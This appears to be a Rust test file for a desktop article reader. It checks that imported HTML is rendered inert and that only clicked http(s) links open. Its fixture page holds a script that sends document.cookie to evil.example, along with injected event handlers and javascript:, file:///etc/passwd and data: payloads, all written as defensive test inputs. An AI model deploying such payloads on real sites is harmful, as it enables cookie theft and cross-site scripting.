//! Articles are only data: nothing in one is executed or fetched, its text is shown
//! as text, and only an http(s) address the user clicks opens, in the system browser.

use dateline::article::{Article, IntakeOptions};

/// A page with everything that could run or fetch something, around a real paragraph.
const PAGE: &str = r#"<!doctype html><html lang="en"><head>
<title>Leaders sign a pact</title>
<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
<script src="https://evil.example/tracker.js"></script>
<style>body { background: url(https://evil.example/bg.png) }</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
</head><body onload="alert('onload')">
<article>
<p>On 19 June 2024 Putin and Kim signed a treaty in Pyongyang, the two leaders said in a joint statement after the talks, which lasted most of the day and covered military and economic matters.</p>
<iframe src="https://evil.example/frame">iframe fallback text</iframe>
<object data="https://evil.example/flash.swf">object fallback text</object>
<embed src="https://evil.example/embed.swf">
<noscript><img src="https://evil.example/pixel.gif">noscript text</noscript>
<img src="https://evil.example/photo.jpg" onerror="alert('onerror')">
<svg><script>alert('svg')</script><text>svg text</text></svg>
<template><p>template text</p></template>
<p>Read <a href="javascript:alert('link')">the full statement</a> for more about the treaty and what it means for the region in the years to come.</p>
</article></body></html>"#;

#[test]
fn html_scripts_styles_frames_and_embedded_objects_are_dropped() {
    let a = Article::from_bytes("page.html", PAGE.as_bytes(), &IntakeOptions::default());
    assert!(a.error.is_none());
    assert!(
        a.text.contains("Putin and Kim signed a treaty"),
        "{}",
        a.text
    );
    assert!(a.text.contains("the full statement"), "{}", a.text);
    for never in [
        "evil.example",
        "fetch(",
        "alert",
        "document.cookie",
        "background",
        "fallback text",
        "noscript text",
        "svg text",
        "template text",
        "javascript:",
        "onload",
        "onerror",
    ] {
        assert!(
            !a.text.contains(never),
            "{never:?} leaked into {:?}",
            a.text
        );
        assert!(
            !a.title.as_deref().unwrap_or("").contains(never),
            "{never:?} in the title"
        );
    }
}

#[test]
fn nothing_in_the_program_can_reach_the_network() {
    // No HTTP client, TLS stack or socket code among the dependencies.
    let lock = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.lock"))
        .expect("Cargo.lock");
    let packages: Vec<&str> = lock
        .lines()
        .filter_map(|l| l.strip_prefix("name = \""))
        .filter_map(|l| l.strip_suffix('"'))
        .collect();
    assert!(packages.contains(&"egui"), "read the lock file");
    for client in [
        "reqwest",
        "ureq",
        "hyper",
        "ehttp",
        "curl",
        "isahc",
        "attohttpc",
        "surf",
        "h2",
        "rustls",
        "native-tls",
        "openssl",
        "tungstenite",
    ] {
        assert!(!packages.contains(&client), "{client} is a dependency");
    }
    // No sockets, no image loaders (which fetch URLs), no child processes in our code.
    let mut stack = vec![std::path::PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/src"
    ))];
    let mut files = 0;
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("src").flatten() {
            let p = entry.path();
            if p.is_dir() {
                stack.push(p);
                continue;
            }
            let code = std::fs::read_to_string(&p).expect("source file");
            files += 1;
            for never in [
                "std::net",
                "TcpStream",
                "UdpSocket",
                "install_image_loaders",
                "egui::Image",
                "process::Command",
            ] {
                assert!(!code.contains(never), "{} uses {never}", p.display());
            }
        }
    }
    assert!(files > 10);
}

#[cfg(feature = "app")]
mod common;

#[cfg(feature = "app")]
mod app {
    use super::common::{self, wait_loaded};
    use std::path::PathBuf;

    use dateline::app::{AppOptions, Command, DatelineApp};
    use egui_kittest::Harness;
    use egui_kittest::kittest::Queryable;

    fn harness(paths: Vec<PathBuf>) -> Harness<'static, DatelineApp> {
        common::app_harness(AppOptions {
            paths,
            restore_session: false,
            session_file: None,
            ..AppOptions::default()
        })
    }

    /// The addresses handed to the system browser in the last frame.
    fn opened(h: &Harness<'_, DatelineApp>) -> Vec<String> {
        h.output()
            .platform_output
            .commands
            .iter()
            .filter_map(|c| match c {
                egui::OutputCommand::OpenUrl(u) => Some(u.url.clone()),
                _ => None,
            })
            .collect()
    }

    /// Steps `n` frames and gathers what they opened.
    fn steps_opening(h: &mut Harness<'_, DatelineApp>, n: usize) -> Vec<String> {
        let mut all = Vec::new();
        for _ in 0..n {
            h.step();
            all.extend(opened(h));
        }
        all
    }

    /// Opens `text` as the only article, shows it, and returns the harness.
    fn reading(name: &str, text: &str) -> (Harness<'static, DatelineApp>, PathBuf) {
        let dir = common::temp_dir("data", name);
        let f = dir.join(format!("{name}.txt"));
        std::fs::write(&f, text).unwrap();
        let mut h = harness(vec![f]);
        wait_loaded(&mut h);
        let id = h.state().state().articles[0].article.id.clone();
        h.state_mut().queue(Command::ShowArticle {
            article: id,
            at: None,
        });
        h.run_steps(3);
        (h, dir)
    }

    /// Where the article view shows the text that contains `part` (the title shows
    /// elsewhere too: the article's text is the biggest).
    fn text_rect(h: &Harness<'_, DatelineApp>, part: &str) -> egui::Rect {
        h.get_all_by_label_contains(part)
            .map(|n| n.rect())
            .max_by(|a, b| a.area().total_cmp(&b.area()))
            .expect("the article text is shown")
    }

    /// Clicks a few points into the first line of the article text.
    fn click_start_of(h: &mut Harness<'_, DatelineApp>, label_part: &str) -> Vec<String> {
        let rect = text_rect(h, label_part);
        let pos = rect.min + egui::vec2(12.0, 6.0);
        h.hover_at(pos);
        h.step();
        for pressed in [true, false] {
            h.event(egui::Event::PointerButton {
                pos,
                button: egui::PointerButton::Primary,
                pressed,
                modifiers: egui::Modifiers::NONE,
            });
        }
        steps_opening(h, 3)
    }

    const LINKED: &str = "https://example.org/report says that on 19 June 2024 Putin and Kim signed a treaty.\n\nMore at http://example.org/more.";

    #[test]
    fn a_web_address_in_an_article_opens_only_when_clicked() {
        let (mut h, dir) = reading("linked", LINKED);
        // Shown, hovered, scrolled: nothing opens.
        let label = text_rect(&h, "https://example.org/report");
        h.hover_at(label.center());
        assert!(steps_opening(&mut h, 5).is_empty());
        // Clicked: that address, in the browser.
        assert_eq!(
            click_start_of(&mut h, "https://example.org/report"),
            ["https://example.org/report"]
        );
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn other_schemes_are_plain_text_and_never_open() {
        let text = "javascript:alert(document.cookie) and file:///etc/passwd and data:text/html,<script>alert(1)</script> were in the article on 19 June 2024.";
        let (mut h, dir) = reading("schemes", text);
        assert!(click_start_of(&mut h, "javascript:alert(document.cookie)").is_empty());
        // Even asked for directly, only http(s) goes to the browser.
        for url in [
            "javascript:alert(1)",
            "file:///etc/passwd",
            "data:text/html,<script>alert(1)</script>",
        ] {
            h.state_mut().queue(Command::OpenUrl(url.to_string()));
            assert!(steps_opening(&mut h, 1).is_empty(), "{url} opened");
        }
        h.state_mut()
            .queue(Command::OpenUrl("https://example.org/x".to_string()));
        assert_eq!(steps_opening(&mut h, 1), ["https://example.org/x"]);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn article_text_is_shown_verbatim_with_no_markup_interpreted() {
        let spoof = "**Dateline** <b>bold</b> [Open settings](javascript:alert(1)) &lt;i&gt; \u{1b}[31mred\u{1b}[0m # Heading";
        let text = format!(
            "Leaders sign a pact\n\n{spoof}\n\nOn 19 June 2024 Putin and Kim signed a treaty."
        );
        let (h, dir) = reading("markup", &text);
        // The article view's label holds the characters as they are in the file.
        h.get_by_label_contains(spoof);
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
